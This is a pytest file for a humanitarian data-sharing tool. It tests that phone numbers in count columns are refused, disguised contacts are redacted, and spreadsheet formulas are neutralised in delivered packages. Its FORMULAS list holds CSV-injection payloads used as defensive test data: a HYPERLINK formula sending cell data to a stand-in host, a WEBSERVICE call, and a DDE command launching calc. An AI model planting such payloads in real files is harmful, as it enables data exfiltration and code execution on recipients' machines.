"""Hostile values: phone numbers typed into counts, contacts in disguise, spreadsheet formulas.

Each goes in through the file drop or ``check-round`` as an operator runs them, and out through
the packages a partner opens; errors name file, column and row, never the value.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime

import pandas as pd
import pyarrow as pa
import pytest
import pyzipper
import sqlalchemy as sa
import yaml
from builders import META, contract_round
from conftest import POLICY_DIR
from hypothesis import given, settings
from hypothesis import strategies as st

from dissemination.__main__ import main
from dissemination.classification import Urgency
from dissemination.classify.sensitivity import (
    active_relational,
    classify_round,
    select_for_agreement,
)
from dissemination.disclosure import build_content
from dissemination.intake import contacts, staging
from dissemination.intake.contract import conform
from dissemination.intake.fresh import import_drop
from dissemination.ledger.migrations import open_upgraded
from dissemination.package.archive import DATA_FILE, open_package
from dissemination.runs import (
    Findings,
    PackagingRun,
    package_deliveries,
    plan_deliveries,
    stage_round,
)

NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
PASSWORD = "Vq7#pX2!mZ9$kL4@wR8%tB6^"
#: Contacts written so that the contract or redaction missed them on 7988561.
DISGUISED = [
    "0803_555_0199", "0803*555*0199", "0803:555:0199", "0803;555;0199",
    "m u s a @ g m a i l . c o m", "musa＠ngo.org", "ｍｕｓａ＠ｎｇｏ．ｏｒｇ",
    "zero eight zero three five five five zero one nine nine",
    "zéro huit zéro trois cinq cinq cinq zéro un neuf neuf",
    "m u s a a t g m a i l d o t c o m",  # "at" and "dot" spelled out like the rest
]
#: What a spreadsheet program runs as a formula, as the security review typed them.
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Bakassi")', '=WEBSERVICE("http://x.example")',
            "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _round(n: int = 6, **columns) -> pd.DataFrame:
    """test_contract's small NGA round (text cells), with households and children counted."""
    return contract_round(n, **{"idp_households": [str(20 + i) for i in range(n)],
                                "unaccompanied_children": ["0"] * n, **columns})


def _check_round(path, capsys, include=POLICY_DIR) -> tuple[int, str]:
    code = main(["check-round", str(path), "--country", "NGA", "--include", str(include)])
    return code, capsys.readouterr().out


def _with(column: str, row: int, value: str, n: int = 6) -> dict:
    values = _round(n)[column].tolist()
    values[row] = value
    return {column: values}


# --- 2. phone numbers typed into counts -------------------------------------------------------


def test_phone_numbers_typed_into_counts_are_refused_at_the_drop_naming_where(policy, tmp_path):
    """``2348035550101`` and ``08035550103`` were whole numbers without an upper bound: they
    reached every partner per site and in area sums."""
    drop = tmp_path / "drop"
    drop.mkdir()
    counts = {**_with("idp_individuals", 1, "2348035550101"),
              **_with("idp_households", 3, "08035550103")}
    _round(**counts).to_csv(drop / "NGA-R007-partial.csv", index=False)
    survey = sa.create_engine(f"sqlite:///{tmp_path / 'survey.db'}")
    assert import_drop(drop, survey, NOW, policy) == []
    error = (drop / "rejected" / "NGA-R007-partial.csv.error").read_text()
    assert error.startswith("NGA-R007-partial.csv: 2 contract violation(s)")
    shape = "has a phone number's shape (a leading 0, or 9 or more digits)"
    assert f"column 'idp_households': {shape} in 1 row(s): 5" in error
    assert f"column 'idp_individuals': {shape} in 1 row(s): 3" in error
    assert "803555" not in error and "0103" not in error and "0101" not in error


def test_a_count_has_a_default_upper_bound_a_rule_may_raise(include, tmp_path, capsys):
    """A 7-digit phone number is a plausible-looking count only without a bound; a country
    whose sites are that large says so for that indicator, and 9 digits stay refused."""
    export = tmp_path / "NGA-R007-partial.csv"
    _round(**_with("idp_individuals", 2, "5550101")).to_csv(export, index=False)
    code, out = _check_round(export, capsys, include)
    assert code == 1
    assert "column 'idp_individuals': outside the bounds [0, 1000000] in 1 row(s): 4" in out
    assert "5550101" not in out

    rules = include / "rules" / "NGA.yaml"
    data = yaml.safe_load(rules.read_text())
    data["indicators"]["idp_individuals"] = {"bounds": [0, 10_000_000]}
    rules.write_text(yaml.safe_dump(data, sort_keys=False))
    assert _check_round(export, capsys, include)[0] == 0

    _round(**_with("idp_individuals", 2, "555010199")).to_csv(export, index=False)
    code, out = _check_round(export, capsys, include)
    assert code == 1 and "idp_individuals': has a phone number's shape" in out


def test_a_leading_zero_in_a_coordinate_is_refused_but_a_decimal_is_not(policy):
    ruleset = policy.rulesets["NGA"]
    lat = ["11.85", "0.5", "08035550103", "-0.25", "12", "11"]
    violations = conform(_round(latitude=lat, longitude=["13.1"] * 6), ruleset).violations
    assert [(v.column, v.problem.split(" (")[0], v.rows) for v in violations] == [
        ("latitude", "has a phone number's shape", (4,))]


# --- 4. one contact detector, for the contract and for redaction -------------------------------


def test_a_round_column_holding_anything_but_a_round_id_blocks_the_round(tmp_path, capsys):
    """A round column declares no pattern: free text typed there (found by the junk property)
    shipped in every package, as every package carries the round's id."""
    export = tmp_path / "NGA-R007-partial.csv"
    _round(**_with("round_id", 2, "KI Musa, call him")).to_csv(export, index=False)
    code, out = _check_round(export, capsys)
    assert code == 1
    assert "column 'round_id': does not match the declared pattern in 1 row(s): 4" in out
    assert "Musa" not in out


@pytest.mark.parametrize("contact", DISGUISED)
def test_a_disguised_contact_in_a_site_name_blocks_the_round_at_check_round(contact, tmp_path,
                                                                            capsys):
    export = tmp_path / "NGA-R007-partial.csv"
    _round(**_with("site_name", 4, f"Camp of KI {contact} Bakassi")).to_csv(export,
                                                                            index=False)
    code, out = _check_round(export, capsys)
    assert code == 1
    assert "column 'site_name': holds what looks like a phone number or e-mail address in " \
           "1 row(s): 6" in out
    assert contact not in out and "musa" not in out.lower() and "555" not in out


def _free_text_content(policy, comments: list[str]):
    """SSD's enumerator comments (free text allowed) in a package at site level."""
    ruleset = policy.rulesets["SSD"]
    base = policy.agreements["unicef-ssd"]
    low = base.tiers.low.model_copy(update={"aggregate_to": None, "indicators": (
        "round_id", "site_id", "enumerator_comments")})
    agreement = base.model_copy(update={"tiers": base.tiers.model_copy(update={"low": low})})
    df = pd.DataFrame({"round_id": "SSD-R001-cleaned", "site_id": [f"s{i}" for i in
                                                                    range(len(comments))],
                       "admin1_pcode": "SS01", "enumerator_comments": comments})
    selection = select_for_agreement(classify_round(df.columns, ruleset), ruleset, agreement,
                                     Urgency.LOW, active=active_relational(df, ruleset))
    return build_content(df, selection, ruleset)


@pytest.mark.parametrize("contact", [*DISGUISED, "0803 - 555 - 0199"])
def test_a_disguised_contact_is_redacted_from_allowed_free_text(policy, contact):
    content = _free_text_content(policy, [f"road closed, call KI {contact} first", "fine"])
    comments = content.frame["enumerator_comments"].tolist()
    assert comments == ["road closed, call KI [redacted] first", "fine"]


#: Pieces a contact is written with: digits of any script, their names, separators, at signs.
_PIECES = st.sampled_from([
    "0", "8", "3", "5", "1", "٣", "५", "８", "zero", "five", "Nine", "huit", "oh",
    " ", "  ", "-", " - ", "_", "*", ":", ";", ".", "/", "(", ")", ",", "|", "\u200b", "\u00a0",
    "\u2013", "\t", "@", "＠", " at ", "[at]", "(dot)", " dot ", ".", "m", "u", "s", "a",
    "org", "com", "ngo", "+", "'", "é", "\u0301", "e", "x",
])


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.lists(_PIECES, max_size=24).map("".join),
                 st.text(max_size=30)))
def test_the_contract_and_redaction_agree_on_every_value(policy, text):
    """What the contract refuses in a shared text column is what redaction takes out of free
    text, and nothing redaction leaves is a contact the contract would refuse."""
    conformed = conform(_round(**_with("site_name", 0, text)), policy.rulesets["NGA"])
    refused = [v for v in conformed.violations if v.indicator == "site_name"]
    detected = bool(contacts.found(pa.array([text]))[0])
    assert bool(refused) == detected
    redacted, n = contacts.redact(pd.Series([text]))
    assert not contacts.found(pa.array(redacted.tolist())).any()
    if detected:
        assert n == 1 and redacted[0] != text
    elif not re.search(contacts.ID_LIKE, contacts.fold_text(text)):
        assert n == 0 and redacted[0] == text


# --- 5. formulas --------------------------------------------------------------------------------


def spreadsheet_formulas(csv_bytes: bytes) -> list[tuple[int, int]]:
    """Cells a spreadsheet program would run, read as Excel and LibreOffice read a CSV (RFC
    4180 quoting; a cell starting with = + - @ is a formula unless it is a number; a leading
    tab or carriage return is dropped first)."""
    def number(text: str) -> bool:
        try:
            float(text)
        except ValueError:
            return False
        return True

    found = []
    for r, row in enumerate(csv.reader(io.StringIO(csv_bytes.decode("utf-8"), newline=""))):
        for c, cell in enumerate(row):
            text = cell.lstrip("\t\r")
            if text[:1] in ("=", "+", "-", "@") and not number(text):
                found.append((r, c))
    return found


def _package_nga(policy, tmp_path, site_names: list[str]):
    raw = _round(len(site_names), site_name=site_names)
    staged = stage_round(META, raw, policy, tmp_path / "r.arrow")
    df = staging.read_staged(staged["path"])
    plans = plan_deliveries(policy, META, staged["columns"], Urgency.MEDIUM,
                                  today=date(2026, 11, 21), only=["unicef-nga"],
                                  found=Findings(active=staged["active_relational"]))
    ledger = open_upgraded(sa.create_engine(f"sqlite:///{tmp_path / 'ledger.db'}"))
    return package_deliveries(df, META, plans, policy, tmp_path / "pk",
                                    lambda variable: PASSWORD, ledger, PackagingRun(NOW, workers=1))


def test_formulas_in_a_site_name_reach_no_spreadsheet(policy, tmp_path):
    """The review's five formulas (and a tab and a carriage return ahead of one) reached
    ``data.csv`` verbatim; now each is text, said in the manifest, for every recipient."""
    names = [*FORMULAS, "Bakassi camp", "-"]
    packaged = _package_nga(policy, tmp_path, names)
    assert [p.status for p in packaged] == ["packaged", "packaged"]  # primary and field FP
    for delivery in packaged:
        with pyzipper.AESZipFile(delivery.package_path) as zf:
            zf.setpassword(PASSWORD.encode())
            data = zf.read(DATA_FILE)
        assert spreadsheet_formulas(data) == []
        manifest, frame = open_package(delivery.package_path, PASSWORD)
        assert manifest["formula_cells_neutralised"] == len(FORMULAS) + 1
        assert frame["site_name"].tolist() == [  # (the contract trims what surrounds a value)
            *(f"'{f.strip()}" for f in FORMULAS), "Bakassi camp", "'-"]


def test_check_round_reports_formula_cells_and_a_clean_export_still_passes(tmp_path, capsys,
                                                                          policy):
    export = tmp_path / "NGA-R007-partial.csv"
    _round(**_with("site_name", 1, FORMULAS[0])).to_csv(export, index=False)
    code, out = _check_round(export, capsys)
    assert code == 0
    assert "neutralised when delivered: site_name: 1 cell(s) begin with =, +, -, @" in out
    assert "HYPERLINK" not in out

    synthetic = tmp_path / "synthetic.csv"
    assert main(["synth", "--out", str(synthetic), "--country", "NGA", "--sites", "300",
                 "--include", str(POLICY_DIR)]) == 0
    capsys.readouterr()
    code, out = _check_round(synthetic, capsys)
    assert code == 0 and "conforms" in out and "neutralised" not in out



def test_a_text_column_with_no_byte_in_any_cell_is_no_formula_and_no_crash(tmp_path, capsys):
    """A column of empty cells: Arrow keeps no data bytes at all. check-round on such a file
    (a site list given by mistake) crashed reading the first byte of nothing."""
    from dissemination.package.formulas import formula_cells, neutralise

    frame = pd.DataFrame({"site_name": pd.Series(["", "", None], dtype="string"),
                          "note": pd.Series(["=1+1", "", "x"], dtype="string")})
    assert formula_cells(frame) == {"note": 1}
    assert neutralise(frame)[1] == 1
    export = tmp_path / "NGA-R007-partial.csv"
    _round(**{"site_name": [""] * 6}).to_csv(export, index=False)
    code, out = _check_round(export, capsys)
    assert "Traceback" not in out and "neutralised" not in out
    assert code in (0, 1)
